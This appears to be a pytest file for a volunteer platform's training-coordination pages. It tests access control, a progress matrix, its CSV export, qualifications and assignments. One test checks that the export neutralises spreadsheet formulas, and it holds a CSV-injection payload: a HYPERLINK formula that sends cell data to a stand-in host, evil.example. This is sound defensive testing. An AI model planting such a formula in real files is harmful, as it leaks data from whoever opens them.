"""Coordinator training pages: the progress matrix and its CSV export, one
person's training (qualifications, attestations, attendance), assignments,
the default path, and the default path given on joining."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import func, select

from tests.factories import make_membership, make_site, make_user, page_text
from tests.training.factories import (
    complete_module,
    make_module,
    make_path,
    make_qualification,
)
from volunteer_platform.db import utcnow
from volunteer_platform.extensions import db
from volunteer_platform.signals import member_joined
from volunteer_platform.tenants.models import Membership, Role
from volunteer_platform.training import queries, services
from volunteer_platform.training.models import (
    Assignment,
    Attestation,
    AwardSource,
    CompetenceArea,
    InPersonAttendance,
    ModuleCompletion,
    QualificationAward,
    TrainingSettings,
)

A = "/structure-a/training"


# --- helpers ---------------------------------------------------------------------------


def membership_of(user, tenant) -> Membership:
    return db.session.scalars(
        select(Membership).where(Membership.user_id == user.id, Membership.tenant_id == tenant.id)
    ).one()


def member(tenant, name, role=Role.VOLUNTEER, **fields) -> Membership:
    return make_membership(tenant, make_user(full_name=name), role, **fields)


def paris_today():
    return utcnow().astimezone(ZoneInfo("Europe/Paris")).date()


def short(day) -> str:
    return day.strftime("%d/%m/%Y")


def read_lessons(user, module, tenant, count):
    version = queries.latest_published_version(module)
    for lesson in version.lessons[:count]:
        services.mark_lesson_read(user, lesson, tenant, now=utcnow())
    db.session.commit()


def assign(tenant, users, *, module=None, path=None, due_on=None):
    services.assign(tenant, users, module=module, path=path, due_on=due_on, assigned_by=None, now=utcnow())
    db.session.commit()


def count(model) -> int:
    db.session.rollback()
    return db.session.scalar(select(func.count()).select_from(model))


def matrix_cells(response) -> dict[str, list[str]]:
    """Row header text (the member's name) -> the row's cell texts."""
    body = page_text(response)
    rows = {}
    for row in re.findall(r"<tr>\s*<th scope=\"row\">(.*?)</tr>", body, re.DOTALL):
        name = re.sub(r"<[^>]+>", " ", re.search(r"<a [^>]*>(.*?)</a>", row, re.DOTALL).group(1)).strip()
        cells = [re.sub(r"\s+", " ", c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", row, re.DOTALL)]
        rows[name] = cells
    return rows


def matrix_columns(response) -> list[str]:
    body = page_text(response)
    thead = re.search(r"<thead>(.*?)</thead>", body, re.DOTALL).group(1)
    return [re.sub(r"\s+", " ", t).strip() for t in re.findall(r"<th scope=\"col\">(.*?)</th>", thead, re.DOTALL)][1:]


def read_csv(response) -> list[list[str]]:
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(raw.decode("utf-8")[1:]), delimiter=";"))


@pytest.fixture
def coordinator_membership_a(tenant_a, coordinator_a):
    return membership_of(coordinator_a, tenant_a)


# --- access ----------------------------------------------------------------------------

GET_PAGES = ["/progress", "/progress.csv", "/assign", "/settings"]


def test_anonymous_visitors_are_sent_to_the_login_page(client, tenant_a, volunteer_a):
    membership = membership_of(volunteer_a, tenant_a)
    for path in GET_PAGES + [f"/people/{membership.id}"]:
        response = client.get(A + path)
        assert response.status_code == 302 and "/login" in response.headers["Location"], path


def test_a_volunteer_is_refused_every_coordination_page_and_action(client, login_as, tenant_a, volunteer_a,
                                                                    coordinator_a):
    login_as(volunteer_a)
    mine = membership_of(volunteer_a, tenant_a).id
    module = make_module(None, title="Sécurité", requires_attendance=True)
    for path in GET_PAGES + [f"/people/{mine}"]:
        assert client.get(A + path).status_code == 403, path
    posts = {
        f"/people/{mine}/qualifications": {},
        f"/people/{mine}/awards/1/withdraw": {},
        f"/people/{mine}/attestations/1/withdraw": {},
        f"/people/{mine}/modules/{module.id}/attendance": {},
        "/assign": {"target": f"module:{module.id}", "members": [str(volunteer_a.id)]},
        "/settings": {"default_path": ""},
    }
    for path, data in posts.items():
        assert client.post(A + path, data=data).status_code == 403, path
    assert count(Assignment) == 0 and count(TrainingSettings) == 0


def test_a_coordinator_of_another_structure_gets_404_for_this_structures_people_and_records(
        client, login_as, tenant_a, tenant_b, volunteer_a, coordinator_b):
    qualification = make_qualification()
    module = make_module(None, title="Démarches en ligne", qualification=qualification)
    complete_module(volunteer_a, module, tenant_a)
    award = db.session.scalars(select(QualificationAward)).one()
    attestation = db.session.scalars(select(Attestation)).one()
    a_member = membership_of(volunteer_a, tenant_a).id
    b_own = membership_of(coordinator_b, tenant_b).id
    login_as(coordinator_b)

    # A's pages do not exist for a non-member...
    assert client.get(f"{A}/people/{a_member}").status_code == 404
    # ...and from B's own pages, A's ids are unknown.
    b = "/structure-b/training"
    assert client.get(f"{b}/people/{a_member}").status_code == 404
    for url in [f"{b}/people/{a_member}/qualifications",
                f"{b}/people/{b_own}/awards/{award.id}/withdraw",
                f"{b}/people/{a_member}/awards/{award.id}/withdraw",
                f"{b}/people/{b_own}/attestations/{attestation.id}/withdraw",
                f"{b}/people/{a_member}/attestations/{attestation.id}/withdraw"]:
        assert client.post(url, data={"award-%d-reason" % award.id: "Intrus",
                                      "attestation-%d-reason" % attestation.id: "Intrus"}).status_code == 404, url
    db.session.rollback()
    assert db.session.get(QualificationAward, award.id).withdrawn_at is None
    assert db.session.get(Attestation, attestation.id).withdrawn_at is None


def test_an_award_or_attestation_of_another_member_is_not_found_under_this_member(
        client, login_as, tenant_a, coordinator_a, volunteer_a):
    other = member(tenant_a, "Odile Autre")
    module = make_module(None, title="Démarches", qualification=make_qualification())
    complete_module(volunteer_a, module, tenant_a)
    award = db.session.scalars(select(QualificationAward)).one()
    attestation = db.session.scalars(select(Attestation)).one()
    login_as(coordinator_a)
    assert client.post(f"{A}/people/{other.id}/awards/{award.id}/withdraw",
                       data={f"award-{award.id}-reason": "Erreur"}).status_code == 404
    assert client.post(f"{A}/people/{other.id}/attestations/{attestation.id}/withdraw",
                       data={f"attestation-{attestation.id}-reason": "Erreur"}).status_code == 404
    db.session.rollback()
    assert queries.holds_qualification(volunteer_a.id, award.qualification_id, utcnow())


def test_another_structures_private_module_cannot_be_used_here(client, login_as, tenant_a, tenant_b,
                                                               coordinator_a, volunteer_a):
    private_b = make_module(tenant_b, title="Module propre à B", requires_attendance=True)
    login_as(coordinator_a)
    mine = membership_of(volunteer_a, tenant_a).id
    assert client.post(f"{A}/people/{mine}/modules/{private_b.id}/attendance",
                       data={f"attendance-{private_b.id}-attended_on": paris_today().isoformat()}).status_code == 404
    response = client.post(f"{A}/assign", data={"target": f"module:{private_b.id}",
                                                "members": [str(volunteer_a.id)]})
    assert response.status_code == 422
    assert count(Assignment) == 0 and count(InPersonAttendance) == 0
    assert "Module propre à B" not in page_text(client.get(f"{A}/progress"))


# --- the matrix ------------------------------------------------------------------------


def test_the_matrix_shows_each_members_state_in_words(client, login_as, tenant_a, tenant_b, coordinator_a):
    email = make_module(None, title="Créer une adresse e-mail", lessons=3, questions=1)
    scams = make_module(tenant_a, title="Déjouer les arnaques", area=CompetenceArea.SAFETY)
    make_module(tenant_b, title="Module de B")
    alice = member(tenant_a, "Alice Achevé").user
    bruno = member(tenant_a, "Bruno Encours").user
    chloe = member(tenant_a, "Chloé Assignée").user
    late = member(tenant_a, "Denis Retard").user
    gone = member(tenant_a, "Ernest Parti", is_active=False).user
    member(tenant_b, "Fanny Bravo")
    complete_module(alice, email, tenant_a)
    read_lessons(bruno, email, tenant_a, 2)  # 2 of 3 lessons + 1 quiz: 50 %
    due = paris_today() + timedelta(days=10)
    assign(tenant_a, [chloe], module=scams, due_on=due)
    assign(tenant_a, [late], module=scams, due_on=due)
    db.session.scalars(select(Assignment).where(Assignment.user_id == late.id)).one().due_on = \
        paris_today() - timedelta(days=3)
    db.session.commit()

    login_as(coordinator_a)
    response = client.get(f"{A}/progress")
    assert response.status_code == 200
    assert matrix_columns(response) == ["Créer une adresse e-mail", "Déjouer les arnaques"]
    rows = matrix_cells(response)
    assert set(rows) == {"Alice Achevé", "Bruno Encours", "Chloé Assignée", "Denis Retard", "Coralie Alpha"}
    assert rows["Alice Achevé"] == [f"Terminé le {short(paris_today())}", "Non commencé"]
    assert rows["Bruno Encours"] == ["En cours (50 %)", "Non commencé"]
    assert rows["Chloé Assignée"] == ["Non commencé", f"Assigné, à rendre le {short(due)}"]
    assert rows["Denis Retard"][1] == f"Assigné, à rendre le {short(paris_today() - timedelta(days=3))} (en retard)"
    text = page_text(response)
    assert "Légende" in text and gone.full_name not in text and "Fanny Bravo" not in text
    person_link = f'href="{A}/people/{membership_of(alice, tenant_a).id}"'
    assert person_link in response.get_data(as_text=True)


def test_a_path_assignment_shows_on_each_of_its_modules(client, login_as, tenant_a, coordinator_a, volunteer_a):
    first = make_module(None, title="Module 1")
    second = make_module(None, title="Module 2")
    path = make_path(None, [first, second])
    assign(tenant_a, [volunteer_a], path=path)
    login_as(coordinator_a)
    rows = matrix_cells(client.get(f"{A}/progress"))
    assert rows["Victor Alpha"] == ["Assigné", "Assigné"]


def test_the_matrix_filters(client, login_as, tenant_a, coordinator_a):
    site = make_site(tenant_a, name="Médiathèque")
    email = make_module(None, title="Créer une adresse e-mail")
    scams = make_module(None, title="Déjouer les arnaques", area=CompetenceArea.SAFETY)
    helene = member(tenant_a, "Hélène Martin", site_id=site.id).user
    member(tenant_a, "Paul Durand")
    member(tenant_a, "Théo Formateur", Role.TRAINER, site_id=site.id)
    assign(tenant_a, [helene], module=scams)
    login_as(coordinator_a)

    def rows(query):
        return set(matrix_cells(client.get(f"{A}/progress?{query}")))

    assert rows("role=volunteer") == {"Hélène Martin", "Paul Durand"}
    assert rows("role=trainer") == {"Théo Formateur"}
    assert rows(f"site={site.id}") == {"Hélène Martin", "Théo Formateur"}
    assert rows("q=helene") == {"Hélène Martin"}  # accents and case ignored
    assert rows("q=DURAND") == {"Paul Durand"}
    assert rows("role=nonsense") == {"Hélène Martin", "Paul Durand", "Théo Formateur", "Coralie Alpha"}
    assert matrix_columns(client.get(f"{A}/progress?area=safety")) == ["Déjouer les arnaques"]
    assert matrix_columns(client.get(f"{A}/progress?assigned_only=y")) == ["Déjouer les arnaques"]
    assert email.id  # both modules without filters:
    assert matrix_columns(client.get(f"{A}/progress")) == ["Créer une adresse e-mail", "Déjouer les arnaques"]
    empty = page_text(client.get(f"{A}/progress?q=personne"))
    assert "Aucun membre actif ne correspond à ces filtres." in empty


def test_the_matrix_runs_the_same_number_of_queries_whatever_its_size(client, login_as, tenant_a, coordinator_a,
                                                                      count_queries):
    def grow(members, modules, start):
        made = [make_module(None, title=f"Module {start + i}", area=CompetenceArea.SAFETY)
                for i in range(modules)]
        people = [member(tenant_a, f"Bénévole {start + i}").user for i in range(members)]
        for i, person in enumerate(people):  # a mix of states in every size
            if i % 3 == 0:
                complete_module(person, made[0], tenant_a)
            elif i % 3 == 1:
                read_lessons(person, made[-1], tenant_a, 1)
            else:
                assign(tenant_a, [person], module=made[-1], due_on=paris_today() + timedelta(days=5))
        return made

    grow(2, 2, 0)  # with the coordinator: 3 members × 2 modules
    login_as(coordinator_a)

    def measure(url):
        with count_queries() as statements:
            response = client.get(url)
        assert response.status_code == 200
        return len(statements), response

    small, response = measure(f"{A}/progress")
    assert len(matrix_cells(response)) == 3 and len(matrix_columns(response)) == 2
    small_csv, _ = measure(f"{A}/progress.csv")

    grow(17, 4, 100)  # 20 members × 6 modules
    large, response = measure(f"{A}/progress")
    assert len(matrix_cells(response)) == 20 and len(matrix_columns(response)) == 6
    large_csv, _ = measure(f"{A}/progress.csv")
    assert large == small
    assert large_csv == small_csv


# --- the CSV export -----------------------------------------------------------------------


def test_the_csv_export_opens_in_excel_with_accents_and_the_pages_filters(client, login_as, tenant_a,
                                                                          coordinator_a):
    site = make_site(tenant_a, name="Mairie annexe")
    email = make_module(None, title="Créer une adresse e-mail")
    make_module(None, title="Déjouer les arnaques", area=CompetenceArea.SAFETY)
    helene = member(tenant_a, "Hélène Martin", site_id=site.id).user
    complete_module(helene, email, tenant_a)
    login_as(coordinator_a)

    response = client.get(f"{A}/progress.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="progression-formation-structure-a-{paris_today().isoformat()}.csv"')
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark
    first_line = raw.decode("utf-8")[1:].split("\r\n")[0]
    assert first_line == "Nom;Adresse e-mail;Rôle;Lieu principal;Créer une adresse e-mail;Déjouer les arnaques"
    rows = read_csv(response)
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["Hélène Martin"][1:] == [
        helene.email, "Bénévole", "Mairie annexe", f"Terminé le {short(paris_today())}", "Non commencé"]
    assert by_name["Coralie Alpha"][4:] == ["Non commencé", "Non commencé"]

    filtered = read_csv(client.get(f"{A}/progress.csv?area=safety&role=volunteer"))
    assert filtered[0][4:] == ["Déjouer les arnaques"]
    assert [row[0] for row in filtered[1:]] == ["Hélène Martin"]


def test_the_csv_export_neutralises_spreadsheet_formulas(client, login_as, tenant_a, coordinator_a):
    site = make_site(tenant_a, name="@Lieu piégé")
    make_module(tenant_a, title="+Module piégé")
    make_module(tenant_a, title="-1 module")
    member(tenant_a, '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")', site_id=site.id)
    member(tenant_a, "\tTabulation")
    login_as(coordinator_a)
    rows = read_csv(client.get(f"{A}/progress.csv"))
    assert rows[0][4:] == ["'+Module piégé", "'-1 module"]
    names = {row[0]: row for row in rows[1:]}
    hostile = "'" + '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")'
    assert hostile in names  # the semicolon inside stayed inside the quoted cell
    assert names[hostile][3] == "'@Lieu piégé"
    assert "'\tTabulation" in names
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# --- one person's page --------------------------------------------------------------------


def test_the_person_page_shows_modules_paths_qualifications_and_attestations(
        client, login_as, tenant_a, coordinator_a, volunteer_a):
    qualification = make_qualification(name="Accompagnement aux démarches en ligne", validity_months=24)
    done = make_module(None, title="Démarches en ligne et FranceConnect", qualification=qualification)
    started = make_module(None, title="Les bases du smartphone", lessons=2, questions=0)
    path = make_path(None, [done, started], title="Aidant numérique — niveau 1")
    assign(tenant_a, [volunteer_a], path=path, due_on=paris_today() + timedelta(days=30))
    complete_module(volunteer_a, done, tenant_a)
    read_lessons(volunteer_a, started, tenant_a, 1)
    attestation = db.session.scalars(select(Attestation)).one()

    login_as(coordinator_a)
    response = client.get(f"{A}/people/{membership_of(volunteer_a, tenant_a).id}")
    assert response.status_code == 200
    text = page_text(response)
    assert "Formation de Victor Alpha" in text
    assert "Démarches en ligne et FranceConnect" in text and "Terminé le" in text
    assert "Les bases du smartphone" in text and "En cours" in text and "50 %" in text
    assert "100 %" in text  # the best quiz score
    assert "Aidant numérique — niveau 1" in text and "1 sur 2" in text
    assert "Accompagnement aux démarches en ligne" in text and "Valable jusqu'au" in text
    assert "Module « Démarches en ligne et FranceConnect »" in text
    assert attestation.code in text


def test_recording_an_external_qualification(client, login_as, tenant_a, coordinator_a, volunteer_a):
    qualification = make_qualification(name="Certification PIX")
    mine = membership_of(volunteer_a, tenant_a).id
    login_as(coordinator_a)
    obtained = paris_today() - timedelta(days=40)
    response = client.post(f"{A}/people/{mine}/qualifications", data={
        "external-qualification": str(qualification.id),
        "external-obtained_on": obtained.isoformat(),
        "external-note": "Certification obtenue à la médiathèque de Lens",
    })
    assert response.status_code == 302
    db.session.rollback()
    assert queries.holds_qualification(volunteer_a.id, qualification.id, utcnow())
    award = db.session.scalars(select(QualificationAward)).one()
    assert award.source is AwardSource.EXTERNAL and award.recorded_by_id == coordinator_a.id
    assert award.awarded_at.astimezone(ZoneInfo("Europe/Paris")).date() == obtained
    text = page_text(client.get(response.headers["Location"]))
    assert "Obtenue ailleurs : Certification obtenue à la médiathèque de Lens" in text
    assert "a été enregistrée pour Victor Alpha" in text


def test_an_external_qualification_needs_a_past_date_and_a_note(client, login_as, tenant_a, coordinator_a,
                                                                 volunteer_a):
    qualification = make_qualification()
    mine = membership_of(volunteer_a, tenant_a).id
    login_as(coordinator_a)
    future = client.post(f"{A}/people/{mine}/qualifications", data={
        "external-qualification": str(qualification.id),
        "external-obtained_on": (paris_today() + timedelta(days=2)).isoformat(),
        "external-note": "Bientôt",
    })
    assert future.status_code == 422
    assert "La date d'obtention ne peut pas être dans le futur." in page_text(future)
    no_note = client.post(f"{A}/people/{mine}/qualifications", data={
        "external-qualification": str(qualification.id),
        "external-obtained_on": paris_today().isoformat(), "external-note": "  ",
    })
    assert no_note.status_code == 422 and "Ce champ est obligatoire." in page_text(no_note)
    assert count(QualificationAward) == 0


def test_withdrawing_a_qualification_withdraws_its_attestation(client, login_as, tenant_a, coordinator_a,
                                                               volunteer_a):
    qualification = make_qualification()
    module = make_module(None, title="Démarches en ligne", qualification=qualification)
    complete_module(volunteer_a, module, tenant_a)
    award = db.session.scalars(select(QualificationAward)).one()
    assert queries.holds_qualification(volunteer_a.id, qualification.id, utcnow())
    mine = membership_of(volunteer_a, tenant_a).id
    login_as(coordinator_a)

    no_reason = client.post(f"{A}/people/{mine}/awards/{award.id}/withdraw", data={f"award-{award.id}-reason": ""})
    assert no_reason.status_code == 422 and "Ce champ est obligatoire." in page_text(no_reason)
    db.session.rollback()
    assert queries.holds_qualification(volunteer_a.id, qualification.id, utcnow())

    response = client.post(f"{A}/people/{mine}/awards/{award.id}/withdraw",
                           data={f"award-{award.id}-reason": "Posture inadaptée constatée"})
    assert response.status_code == 302
    db.session.rollback()
    assert not queries.holds_qualification(volunteer_a.id, qualification.id, utcnow())
    attestation = db.session.scalars(select(Attestation)).one()
    assert attestation.withdrawn_at is not None
    text = page_text(client.get(f"{A}/people/{mine}"))
    assert "Retirée le" in text and "Raison : Posture inadaptée constatée" in text
    assert text.count("Raison : Posture inadaptée constatée") == 2  # the qualification and its attestation

    again = client.post(f"{A}/people/{mine}/awards/{award.id}/withdraw", data={f"award-{award.id}-reason": "Encore"})
    assert again.status_code == 409 and "Cette qualification a déjà été retirée." in page_text(again)


def test_withdrawing_an_attestation(client, login_as, tenant_a, coordinator_a, volunteer_a):
    module = make_module(None, title="Les bases du smartphone")
    complete_module(volunteer_a, module, tenant_a)
    attestation = db.session.scalars(select(Attestation)).one()
    mine = membership_of(volunteer_a, tenant_a).id
    login_as(coordinator_a)
    response = client.post(f"{A}/people/{mine}/attestations/{attestation.id}/withdraw",
                           data={f"attestation-{attestation.id}-reason": "Délivrée par erreur"})
    assert response.status_code == 302
    db.session.rollback()
    attestation = db.session.get(Attestation, attestation.id)
    assert attestation.withdrawn_at is not None and attestation.withdrawal_reason == "Délivrée par erreur"
    assert f"L'attestation {attestation.code} a été retirée." in page_text(client.get(response.headers["Location"]))


def test_recording_in_person_attendance_completes_the_module(client, login_as, tenant_a, coordinator_a,
                                                             volunteer_a):
    module = make_module(None, title="Posture de l'aidant numérique", requires_attendance=True)
    plain = make_module(None, title="Sans présentiel")
    complete_module(volunteer_a, module, tenant_a)  # lessons and quiz done, the session missing
    assert count(ModuleCompletion) == 0
    mine = membership_of(volunteer_a, tenant_a).id
    login_as(coordinator_a)
    page = page_text(client.get(f"{A}/people/{mine}"))
    assert "Séances en présentiel" in page and "Enregistrer la présence" in page

    future = client.post(f"{A}/people/{mine}/modules/{module.id}/attendance",
                         data={f"attendance-{module.id}-attended_on": (paris_today() + timedelta(days=1)).isoformat()})
    assert future.status_code == 422
    assert "La date de la séance ne peut pas être dans le futur." in page_text(future)
    assert count(InPersonAttendance) == 0
    assert client.post(f"{A}/people/{mine}/modules/{plain.id}/attendance",
                       data={f"attendance-{plain.id}-attended_on": paris_today().isoformat()}).status_code == 404

    response = client.post(f"{A}/people/{mine}/modules/{module.id}/attendance",
                           data={f"attendance-{module.id}-attended_on": paris_today().isoformat()})
    assert response.status_code == 302
    db.session.rollback()
    attendance = db.session.scalars(select(InPersonAttendance)).one()
    assert attendance.tenant_id == tenant_a.id and attendance.recorded_by_id == coordinator_a.id
    assert count(ModuleCompletion) == 1
    assert "Présence enregistrée." in page_text(client.get(f"{A}/people/{mine}"))


def test_the_person_page_runs_the_same_number_of_queries_whatever_the_history(
        client, login_as, tenant_a, coordinator_a, volunteer_a, count_queries):
    qualification = make_qualification()
    mine = membership_of(volunteer_a, tenant_a).id
    login_as(coordinator_a)

    def history(n, start):
        for i in range(n):
            module = make_module(None, title=f"Module {start + i}", qualification=qualification)
            complete_module(volunteer_a, module, tenant_a)

    def measure():
        with count_queries() as statements:
            assert client.get(f"{A}/people/{mine}").status_code == 200
        return len(statements)

    history(1, 0)
    small = measure()
    history(5, 10)
    assert measure() == small


# --- assignments ----------------------------------------------------------------------------


def test_assigning_a_module_with_a_due_date(client, login_as, tenant_a, coordinator_a, volunteer_a):
    module = make_module(None, title="Créer une adresse e-mail")
    other = member(tenant_a, "Odile Autre").user
    login_as(coordinator_a)
    page = client.get(f"{A}/assign")
    assert page.status_code == 200 and "Module : Créer une adresse e-mail" in page_text(page)
    due = paris_today() + timedelta(days=14)
    response = client.post(f"{A}/assign", data={
        "target": f"module:{module.id}", "members": [str(volunteer_a.id), str(other.id)],
        "due_on": due.isoformat(),
    })
    assert response.status_code == 302
    db.session.rollback()
    assignments = db.session.scalars(select(Assignment).order_by(Assignment.user_id)).all()
    assert [(a.user_id, a.module_id, a.due_on, a.tenant_id, a.assigned_by_id) for a in assignments] == [
        (u.id, module.id, due, tenant_a.id, coordinator_a.id) for u in sorted([volunteer_a, other], key=lambda u: u.id)]
    assert "attribué à 2 personne(s)" in page_text(client.get(response.headers["Location"]))
    rows = matrix_cells(client.get(f"{A}/progress"))
    assert rows["Victor Alpha"] == [f"Assigné, à rendre le {short(due)}"]


def test_a_due_date_in_the_past_is_refused_and_nothing_is_saved(client, login_as, tenant_a, coordinator_a,
                                                                volunteer_a):
    module = make_module(None, title="Créer une adresse e-mail")
    login_as(coordinator_a)
    response = client.post(f"{A}/assign", data={
        "target": f"module:{module.id}", "members": [str(volunteer_a.id)],
        "due_on": (paris_today() - timedelta(days=1)).isoformat(),
    })
    assert response.status_code == 422
    assert "La date limite ne peut pas être dans le passé." in page_text(response)
    assert count(Assignment) == 0


def test_assigning_needs_someone(client, login_as, tenant_a, coordinator_a, volunteer_a):
    module = make_module(None, title="Créer une adresse e-mail")
    login_as(coordinator_a)
    response = client.post(f"{A}/assign", data={"target": f"module:{module.id}"})
    assert response.status_code == 422
    assert "Cochez au moins une personne, ou « tous les bénévoles »." in page_text(response)
    assert count(Assignment) == 0


def test_assigning_a_path_to_all_volunteers(client, login_as, tenant_a, tenant_b, coordinator_a, volunteer_a):
    path = make_path(None, [make_module(None, title="Module 1")])
    second = member(tenant_a, "Valérie Deux").user
    member(tenant_a, "Ian Actif", is_active=False)
    member(tenant_a, "Thomas Formateur", Role.TRAINER)
    outsider = member(tenant_b, "Bertrand Bravo").user
    login_as(coordinator_a)
    response = client.post(f"{A}/assign", data={"target": f"path:{path.id}", "all_volunteers": "y"})
    assert response.status_code == 302
    db.session.rollback()
    assigned = set(db.session.scalars(select(Assignment.user_id).where(Assignment.path_id == path.id)))
    assert assigned == {volunteer_a.id, second.id}

    # Someone of another structure is not a valid choice.
    response = client.post(f"{A}/assign", data={"target": f"path:{path.id}", "members": [str(outsider.id)]})
    assert response.status_code == 422
    assert count(Assignment) == 2


def test_the_default_path_setting(client, login_as, tenant_a, tenant_b, coordinator_a):
    module = make_module(None, title="Module 1")
    path = make_path(None, [module], title="Aidant numérique — niveau 1")
    draft = make_path(None, [module], title="Parcours en préparation", publish=False)
    private_b = make_path(tenant_b, [module], title="Parcours de B")
    login_as(coordinator_a)
    page = page_text(client.get(f"{A}/settings"))
    assert "aucun parcours n'est attribué automatiquement" in page
    assert "Parcours en préparation" not in page and "Parcours de B" not in page

    assert client.post(f"{A}/settings", data={"default_path": str(path.id)}).status_code == 302
    db.session.rollback()
    assert db.session.get(TrainingSettings, tenant_a.id).default_path_id == path.id
    assert "chaque nouveau bénévole reçoit le parcours : Aidant numérique — niveau 1" in \
        re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", page_text(client.get(f"{A}/settings"))))

    for refused in (draft, private_b):
        assert client.post(f"{A}/settings", data={"default_path": str(refused.id)}).status_code == 422
    db.session.rollback()
    assert db.session.get(TrainingSettings, tenant_a.id).default_path_id == path.id

    assert client.post(f"{A}/settings", data={"default_path": ""}).status_code == 302
    db.session.rollback()
    assert db.session.get(TrainingSettings, tenant_a.id).default_path_id is None


# --- the default path on joining ------------------------------------------------------------


def test_a_new_volunteer_gets_the_default_path_when_joining(app, tenant_a):
    path = make_path(None, [make_module(None, title="Module 1")])
    services.set_default_path(tenant_a, path)
    db.session.commit()
    newcomer = member(tenant_a, "Nina Nouvelle")
    coordinator = member(tenant_a, "Colette Coord", Role.COORDINATOR)

    member_joined.send(tenant_a, user=newcomer.user, membership=newcomer, now=utcnow())
    member_joined.send(tenant_a, user=coordinator.user, membership=coordinator, now=utcnow())
    db.session.commit()
    assignments = db.session.scalars(select(Assignment)).all()
    assert [(a.user_id, a.path_id, a.tenant_id, a.assigned_by_id) for a in assignments] == [
        (newcomer.user_id, path.id, tenant_a.id, None)]

    member_joined.send(tenant_a, user=newcomer.user, membership=newcomer, now=utcnow())  # joins again
    db.session.commit()
    assert count(Assignment) == 1


def test_without_a_default_path_joining_assigns_nothing(app, tenant_a, tenant_b):
    newcomer = member(tenant_a, "Nina Nouvelle")
    member_joined.send(tenant_a, user=newcomer.user, membership=newcomer, now=utcnow())
    # B's default path is B's business.
    path = make_path(None, [make_module(None, title="Module 1")])
    services.set_default_path(tenant_b, path)
    db.session.commit()
    member_joined.send(tenant_a, user=newcomer.user, membership=newcomer, now=utcnow())
    db.session.commit()
    assert count(Assignment) == 0


def test_joining_through_an_invitation_gives_the_default_path(client, login_as, tenant_a, coordinator_a, outbox):
    from tests.auth.test_invitations import accept, invitation_link, invite
    from volunteer_platform.auth.models import User

    path = make_path(None, [make_module(None, title="Module 1")])
    services.set_default_path(tenant_a, path)
    db.session.commit()
    login_as(coordinator_a)
    assert invite(client, "nora@example.org").status_code == 302
    client.post("/logout")
    assert accept(client, invitation_link(outbox)).status_code == 302
    db.session.rollback()
    nora = db.session.scalars(select(User).where(User.email == "nora@example.org")).one()
    assert [(a.user_id, a.path_id) for a in db.session.scalars(select(Assignment))] == [(nora.id, path.id)]
